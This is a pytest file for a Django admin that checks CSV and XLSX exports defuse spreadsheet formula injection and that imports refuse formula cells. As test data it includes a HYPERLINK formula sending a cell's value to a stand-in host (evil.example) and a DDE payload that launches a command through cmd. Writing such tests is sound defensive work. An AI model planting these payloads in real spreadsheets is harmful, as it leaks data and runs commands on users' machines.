"""No export opens a formula in a spreadsheet; imports refuse one.

Every resource the admin offers is exported with each of its text fields set to a
value that begins with each formula character, as CSV and as XLSX, and each file is
read back the way a spreadsheet would: no cell may begin with a formula character.
"""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.db import models
from import_export.formats.base_formats import CSV, XLSX

from ama.factories import VideoFactory
from ama.resources import VideoResource
from listserv.factories import SubscriberFactory
from listserv.resources import SubscriberResource
from lmsa_portal.spreadsheets import (
    FORMULA_STARTS,
    SpreadsheetSafeResource,
    read_spreadsheet_text,
)
from members.factories import make_member
from members.models import RosterEntry
from members.resources import MembershipResource, RosterEntryResource
from mentors.factories import MentorFactory
from mentors.resources import MentorResource
from residency_hub.factories import EventFactory, ProgramFactory
from residency_hub.resources import EventResource, ProgramResource

pytestmark = pytest.mark.django_db


def _roster_entry():
    return RosterEntry.objects.create(
        email="roster@example.org", first_name="Ana", last_name="Ruiz"
    )


def _membership():
    return make_member(state="active").membership


RESOURCES = {
    "mentor": (MentorResource, lambda: MentorFactory()),
    "program": (ProgramResource, lambda: ProgramFactory()),
    "event": (EventResource, lambda: EventFactory()),
    "video": (VideoResource, lambda: VideoFactory()),
    "subscriber": (SubscriberResource, lambda: SubscriberFactory()),
    "roster": (RosterEntryResource, _roster_entry),
    "membership": (MembershipResource, _membership),
}


def _poison(instance, prefix):
    """Every text column of the row (and of its user) begins with ``prefix``."""
    targets = [instance]
    if getattr(instance, "user", None) is not None:
        targets.append(instance.user)
    for target in targets:
        text_fields = {
            # Cut to the column's length: PostgreSQL refuses longer values.
            field.name: f'{prefix}HYPERLINK("http://evil.example/?x="&B2){field.name}'[
                : field.max_length or None
            ]
            for field in target._meta.concrete_fields
            if isinstance(field, (models.CharField, models.TextField))
            and not field.choices
            and field.name not in {"password", "slug", "uid"}
        }
        type(target).objects.filter(pk=target.pk).update(**text_fields)


def _cells(resource_class, fmt):
    dataset = resource_class().export()
    data = fmt.export_data(dataset)
    if isinstance(fmt, XLSX):
        sheet = openpyxl.load_workbook(io.BytesIO(data)).active
        return [
            cell.value for row in sheet.iter_rows() for cell in row if cell.value
        ], [cell.data_type for row in sheet.iter_rows() for cell in row]
    rows = list(csv.reader(io.StringIO(data)))
    return [cell for row in rows for cell in row], []


@pytest.mark.parametrize("prefix", FORMULA_STARTS)
@pytest.mark.parametrize("name", RESOURCES)
@pytest.mark.parametrize("fmt", [CSV(), XLSX()], ids=["csv", "xlsx"])
def test_no_exported_cell_begins_with_a_formula(name, prefix, fmt):
    resource_class, make = RESOURCES[name]
    _poison(make(), prefix)

    cells, data_types = _cells(resource_class, fmt)

    unsafe = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS)]
    assert unsafe == []
    assert "f" not in data_types  # openpyxl writes no formula cell
    # The poisoned text is there, marked as text: the test sees real rows.
    # (Excel files store a carriage return as a line feed.)
    marked = ("'" + prefix, "'" + prefix.replace("\r", "\n"))
    assert any(isinstance(c, str) and c.startswith(marked) for c in cells)


def test_every_admin_resource_is_spreadsheet_safe():
    """A resource added later cannot forget the protection."""
    resource_classes = {
        resource
        for model_admin in admin.site._registry.values()
        for resource in getattr(model_admin, "resource_classes", [])
    }
    assert resource_classes  # the admin does offer imports and exports
    assert {
        r for r in resource_classes if not issubclass(r, SpreadsheetSafeResource)
    } == set()
    assert resource_classes <= {r for r, _make in RESOURCES.values()}


@pytest.mark.parametrize(
    "value", ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3+A1", "\t=1", "\rX"]
)
def test_import_refuses_a_formula_cell(value):
    with pytest.raises(ValueError, match="formula"):
        read_spreadsheet_text(value)


@pytest.mark.parametrize(
    ("cell", "stored"),
    [
        ("+1 (555) 010-2030", "+1 (555) 010-2030"),  # phone numbers stay
        ("-3", "-3"),
        ("'=not a formula", "=not a formula"),  # marked as text by an export
        ("'- a bullet", "- a bullet"),
        ("Ana", "Ana"),
        (None, None),
    ],
)
def test_import_keeps_numbers_phones_and_marked_text(cell, stored):
    assert read_spreadsheet_text(cell) == stored


def test_mentor_import_preview_reports_the_formula_cell():
    resource = MentorResource()
    export = resource.export()  # the headers of a real file
    row = dict.fromkeys(export.headers, "")
    row.update(
        {
            "First Name": '=HYPERLINK("http://evil.example/?x="&B2,"click")',
            "Last Name": "García",
            "Email": "evil@example.org",
        }
    )
    import tablib

    dataset = tablib.Dataset(list(row.values()), headers=list(row.keys()))
    result = resource.import_data(dataset, dry_run=True)
    assert result.has_validation_errors()
    messages = str(result.invalid_rows[0].error_dict)
    assert "formula" in messages
